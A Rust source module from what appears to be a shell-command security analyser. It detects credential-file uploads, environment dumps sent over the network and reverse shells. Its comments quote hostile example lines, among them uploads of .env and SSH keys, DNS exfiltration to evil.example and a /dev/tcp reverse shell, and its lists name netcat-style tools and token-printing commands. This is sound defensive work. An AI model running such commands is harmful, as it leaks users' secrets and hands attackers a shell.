//! Exfiltration: a credential file whose *content* goes over the network. Reading
//! a key to authenticate (`ssh -i`, `curl --cert`) is not sending it; uploading it
//! (`curl -d @.env`, `scp ~/.aws/credentials host:`), feeding it to a network
//! program's stdin (`nc host 80 < .env`) or piping it into one
//! (`cat id_rsa | curl --data-binary @- …`) is. Each gives an
//! `exfil.credential-upload` finding naming the file.

use super::walk::{Stream, Walker};
use super::words::Arg;
use crate::TargetKind;
use crate::analyze::paths::resolve_expanded;
use crate::analyze::tools::{is_credential_directory, is_credential_path};

/// Programs that connect a raw socket to their stdin and stdout.
const RAW_SOCKETS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet", "openssl"];

/// Programs that send what they read on stdin to another machine.
const STDIN_SENDERS: &[&str] = &[
    "nc", "ncat", "netcat", "socat", "telnet", "ssh", "curl", "wget", "http", "https", "xh",
    "openssl", "ftp", "sftp", "aws", "gsutil", "rclone",
];

/// A file a network program uploads: a read target, and a finding when it holds
/// credentials.
pub(super) fn sent_file(walker: &mut Walker<'_>, file: &Arg, program: &str) {
    walker.add_path(file, TargetKind::Read, program);
    if file.is_literal() && !file.text.is_empty() && file.text != "-" {
        let path = resolve_expanded(&file.text, &walker.scope.context);
        report(walker, &path, program);
    }
}

/// A network program whose own words or redirections read a credential file:
/// `curl -d "$(cat .env)" URL`, `dig $(cat .env | base32).evil.example`.
pub(super) fn check_words(walker: &mut Walker<'_>, program: &str, args: &[Arg]) {
    if !STDIN_SENDERS.contains(&program) && !LOOKUPS.contains(&program) {
        return;
    }
    let credential = walker
        .action
        .targets
        .get(walker.words_targets_from..)
        .unwrap_or_default()
        .iter()
        .find(|target| target.kind == TargetKind::Read && carries_credentials(walker, &target.path))
        .map(|target| target.path.clone());
    if let Some(path) = credential {
        report(walker, &path, program);
        return;
    }
    let printer = walker
        .action
        .commands
        .get(walker.words_commands_from..)
        .unwrap_or_default()
        .iter()
        .find(|command| {
            (prints_credentials(command) && !sent_to_its_service(command, args))
                || matches!(command.program.as_str(), "env" | "printenv") && command.args.is_empty()
        })
        .map(|command| command.program.clone());
    if let Some(printer) = printer {
        report_printed(walker, &printer, program);
    }
}

/// Programs that send what they are given as a name to a DNS server.
const LOOKUPS: &[&str] = &["dig", "nslookup", "host", "drill", "ping"];

/// A network program whose stdin is a credential file (`nc host 80 < .env`).
pub(super) fn check_stdin(walker: &mut Walker<'_>, program: &str, stdin: &Stream) {
    if let Stream::File(path) = stdin
        && STDIN_SENDERS.contains(&program)
    {
        let path = path.clone();
        report(walker, &path, program);
    }
}

/// A pipeline in which an earlier stage reads a credential file and a later one is
/// a network program: the file's content is what the later one sends.
/// `stages` holds, per stage, where its targets and commands start in the action.
pub(super) fn check_pipeline(walker: &mut Walker<'_>, stages: &[(usize, usize)]) {
    let first_command = stages.first().map_or(0, |&(_, commands)| commands);
    let programs: Vec<&str> = walker
        .action
        .commands
        .get(first_command..)
        .unwrap_or_default()
        .iter()
        .map(|command| command.program.as_str())
        .collect();
    let has_shell = programs
        .iter()
        .any(|program| super::code::is_shell(program));
    let socket = programs
        .iter()
        .find(|program| RAW_SOCKETS.contains(program))
        .map(|program| (*program).to_owned());
    if has_shell && let Some(socket) = socket {
        reverse_shell(walker, &format!("a shell piped through `{socket}`"));
    }
    let mut credential: Option<String> = None;
    for (index, &(targets_from, commands_from)) in stages.iter().enumerate() {
        if let Some(path) = &credential {
            let commands_to = stages
                .get(index + 1)
                .map_or(walker.action.commands.len(), |&(_, to)| to);
            let sender = walker
                .action
                .commands
                .get(commands_from..commands_to)
                .unwrap_or_default()
                .iter()
                .find(|command| STDIN_SENDERS.contains(&command.program.as_str()))
                .map(|command| command.program.clone());
            if let Some(sender) = sender {
                let path = path.clone();
                report(walker, &path, &sender);
                return;
            }
        }
        let targets_to = stages
            .get(index + 1)
            .map_or(walker.action.targets.len(), |&(to, _)| to);
        let commands_to = stages
            .get(index + 1)
            .map_or(walker.action.commands.len(), |&(_, to)| to);
        let dumps_environment = walker
            .action
            .commands
            .get(commands_from..commands_to)
            .unwrap_or_default()
            .iter()
            .any(|command| {
                matches!(command.program.as_str(), "env" | "printenv") && command.args.is_empty()
                    || command.program == "set" && command.args.is_empty()
                    || command.program == "export" && command.args == ["-p"]
            });
        if dumps_environment && credential.is_none() {
            credential = Some(ENVIRONMENT.to_owned());
        }
        let printer = walker
            .action
            .commands
            .get(commands_from..commands_to)
            .unwrap_or_default()
            .iter()
            .find(|command| prints_credentials(command))
            .map(|command| format!("{} {}", command.program, command.args.join(" ")));
        if let Some(printer) = printer
            && credential.is_none()
        {
            credential = Some(format!("{PRINTED}{printer}"));
        }
        if credential.is_none() {
            credential = walker
                .action
                .targets
                .get(targets_from..targets_to)
                .unwrap_or_default()
                .iter()
                .find(|target| {
                    target.kind == TargetKind::Read && carries_credentials(walker, &target.path)
                })
                .map(|target| target.path.clone());
        }
    }
}

/// A line that opens a socket with a `/dev/tcp` redirection and runs a shell:
/// the classic `bash -i >& /dev/tcp/HOST/PORT 0>&1`.
pub(super) fn check_socket_shell(walker: &mut Walker<'_>) {
    let shell = walker
        .action
        .commands
        .iter()
        .find(|command| super::code::is_shell(&command.program) || command.program == "exec")
        .map(|command| command.program.clone());
    if let Some(shell) = shell {
        reverse_shell(
            walker,
            &format!("`{shell}` with its input and output on a /dev/tcp socket"),
        );
    }
}

/// Adds the `net.reverse-shell` finding.
pub(super) fn reverse_shell(walker: &mut Walker<'_>, how: &str) {
    walker.action.add_finding(
        "net.reverse-shell",
        None,
        format!("a shell handed to a network peer: {how}"),
    );
}

/// Stands for the environment (`env | curl -d @- …`) where a file would be named.
const ENVIRONMENT: &str = "the environment";

/// Prefixes a command whose output is credentials, where a file would be named.
const PRINTED: &str = "printed by ";

/// Uploads by cloud and code-hosting command-line tools: `aws s3 cp FILE s3://…`,
/// `gsutil cp FILE gs://…`, `gh gist create FILE`, `rclone copy FILE remote:`.
pub(super) fn cloud_upload(walker: &mut Walker<'_>, program: &str, args: &[Arg]) {
    let operands: Vec<&Arg> = args
        .iter()
        .filter(|arg| !arg.text.starts_with('-'))
        .collect();
    let texts: Vec<&str> = operands.iter().map(|arg| arg.text.as_str()).collect();
    let remote = |text: &str| text.contains("://") || text.contains(':') && !text.starts_with('/');
    let files: Vec<&Arg> = match (program, texts.as_slice()) {
        ("aws", ["s3", "cp" | "mv" | "sync", ..]) | ("gsutil", ["cp" | "mv" | "rsync", ..]) => {
            let skip = if program == "aws" { 2 } else { 1 };
            match operands.get(skip..) {
                Some([source, destination])
                    if remote(&destination.text) && !remote(&source.text) =>
                {
                    vec![*source]
                }
                _ => Vec::new(),
            }
        }
        ("gh", ["gist", "create", ..]) => operands.get(2..).unwrap_or_default().to_vec(),
        ("rclone", ["copy" | "copyto" | "move" | "sync", ..]) => match operands.get(1..) {
            Some([source, destination]) if remote(&destination.text) => vec![*source],
            _ => Vec::new(),
        },
        _ => Vec::new(),
    };
    for file in files {
        sent_file(walker, file, program);
    }
}

/// Whether an inline script's literal path is a credential file.
pub(super) fn is_credential_file(walker: &Walker<'_>, path: &str) -> bool {
    let path = crate::analyze::resolve_path(path, &walker.scope.context);
    holds_credentials(&path, &walker.scope.context.home)
}

/// An inline script that reads a credential file and talks to the network.
pub(super) fn script_sends(walker: &mut Walker<'_>, path: &str, program: &str) {
    let path = crate::analyze::resolve_path(path, &walker.scope.context);
    report(walker, &path, program);
}

/// A credential file, or a directory of them sent as a whole (`rsync ~/.ssh/ host:`).
fn holds_credentials(path: &str, home: &str) -> bool {
    is_credential_path(path, home) || is_credential_directory(path, home)
}

/// Whether a command prints credentials: a token from a CLI's login
/// (`gh auth token`, `gcloud auth print-access-token`), a kubeconfig with its keys,
/// a secret-named environment variable, a keychain entry.
fn prints_credentials(command: &crate::CommandInvocation) -> bool {
    let args: Vec<&str> = command.args.iter().map(String::as_str).collect();
    let has = |word: &str| args.contains(&word);
    let secret_name = |name: &str| {
        let upper = name.to_ascii_uppercase();
        [
            "KEY",
            "TOKEN",
            "SECRET",
            "PASSWORD",
            "PASSWD",
            "CREDENTIAL",
            "AUTH",
        ]
        .iter()
        .any(|marker| upper.contains(marker))
    };
    match command.program.as_str() {
        "gh" | "glab" => has("auth") && (has("token") || has("status") && has("-t")),
        "gcloud" => {
            has("auth")
                && args.iter().any(|arg| {
                    arg.starts_with("print-access-token") || arg.starts_with("print-identity-token")
                })
        }
        "aws" => {
            has("export-credentials")
                || has("get-session-token")
                || has("get-login-password")
                || (has("configure") && has("get"))
        }
        "az" => has("get-access-token"),
        "kubectl" | "oc" => has("config") && has("view") && (has("--raw") || has("--flatten")),
        "printenv" => args.iter().any(|name| secret_name(name)),
        "security" => args
            .iter()
            .any(|arg| arg.starts_with("find-") && arg.ends_with("-password")),
        "op" | "pass" | "gopass" | "bw" | "lpass" => has("read") || has("show") || has("get"),
        "vault" => has("read") || has("get"),
        "git" => has("credential") && has("fill"),
        program => program.starts_with("docker-credential-"),
    }
}

/// Whether a CLI's token goes to that CLI's own service (`curl -H "Authorization:
/// Bearer $(gcloud auth print-access-token)" https://run.googleapis.com/…`): using
/// a token, not leaking it.
fn sent_to_its_service(printer: &crate::CommandInvocation, args: &[Arg]) -> bool {
    let domains: &[&str] = match printer.program.as_str() {
        "gcloud" => &["googleapis.com", "google.com"],
        "gh" => &["github.com", "githubusercontent.com"],
        "glab" => &["gitlab.com"],
        "aws" => &["amazonaws.com", "aws.amazon.com"],
        "az" => &["azure.com", "windows.net", "microsoft.com", "azure.net"],
        _ => return false,
    };
    let urls: Vec<&str> = args
        .iter()
        .map(|arg| arg.text.as_str())
        .filter(|text| text.contains("://"))
        .collect();
    !urls.is_empty()
        && urls.iter().all(|url| {
            let host = url
                .split_once("://")
                .map_or(*url, |(_, rest)| rest)
                .split(['/', '?', '#', ':'])
                .next()
                .unwrap_or("");
            domains
                .iter()
                .any(|domain| host == *domain || host.ends_with(&format!(".{domain}")))
        })
}

/// Adds the finding for credentials a command printed and another sent.
fn report_printed(walker: &mut Walker<'_>, printer: &str, program: &str) {
    walker.action.add_finding(
        "exfil.credential-upload",
        None,
        format!("`{program}` sends the credentials `{printer}` prints over the network"),
    );
}

fn report(walker: &mut Walker<'_>, path: &str, program: &str) {
    if let Some(printer) = path.strip_prefix(PRINTED) {
        let printer = printer.to_owned();
        report_printed(walker, &printer, program);
        return;
    }
    if path == ENVIRONMENT {
        walker.action.add_finding(
            "exfil.environment-upload",
            None,
            format!("`{program}` sends the environment's variables over the network"),
        );
        return;
    }
    if holds_credentials(path, &walker.scope.context.home) {
        walker.action.add_finding(
            "exfil.credential-upload",
            Some(path),
            format!("`{program}` sends the credential file {path} over the network"),
        );
    } else if let Some(source) = copied_from(walker, path) {
        walker.action.add_finding(
            "exfil.credential-upload",
            Some(path),
            format!(
                "`{program}` sends {path} over the network, which the line made from the credential file {source}"
            ),
        );
    }
}

/// The most copies of credential files one line keeps track of.
const MAX_CREDENTIAL_COPIES: usize = 64;

/// Notes the files a simple command wrote while it read a credential file: a copy,
/// an archive, an encoding of it (`cp ~/.ssh/id_rsa /tmp/k`, `zip -r k.zip ~/.ssh`,
/// `base64 .env > x`). Sending one of them later in the line sends the credential.
/// `from`: where the command's targets start.
pub(super) fn note_copies(walker: &mut Walker<'_>, from: usize) {
    let home = &walker.scope.context.home;
    let targets = walker.action.targets.get(from..).unwrap_or_default();
    // Most commands write nothing: checked first, as it costs nothing.
    if !targets
        .iter()
        .any(|target| target.kind == TargetKind::Write)
    {
        return;
    }
    let Some(source) = targets.iter().find_map(|target| {
        if target.kind != TargetKind::Read {
            return None;
        }
        if holds_credentials(&target.path, home) {
            return Some(target.path.clone());
        }
        copied_from(walker, &target.path)
    }) else {
        return;
    };
    let copies: Vec<(String, String)> = targets
        .iter()
        .filter(|target| target.kind == TargetKind::Write && !holds_credentials(&target.path, home))
        .map(|target| (target.path.clone(), source.clone()))
        .collect();
    for copy in copies {
        if walker.credential_copies.len() < MAX_CREDENTIAL_COPIES {
            walker.credential_copies.push(copy);
        }
    }
}

/// The credential file a file of the line was made from, if it was, or that a
/// directory holds a copy of (`tar czf out.tgz report` after
/// `cp ~/.aws/credentials report/`).
fn copied_from(walker: &Walker<'_>, path: &str) -> Option<String> {
    if walker.credential_copies.is_empty() {
        return None;
    }
    let directory = format!("{}/", path.trim_end_matches('/'));
    walker
        .credential_copies
        .iter()
        .rev()
        .find(|(copy, _)| copy == path || copy.starts_with(&directory))
        .map(|(_, source)| source.clone())
}

/// A credential file, or a file the line made from one.
fn carries_credentials(walker: &Walker<'_>, path: &str) -> bool {
    holds_credentials(path, &walker.scope.context.home) || copied_from(walker, path).is_some()
}
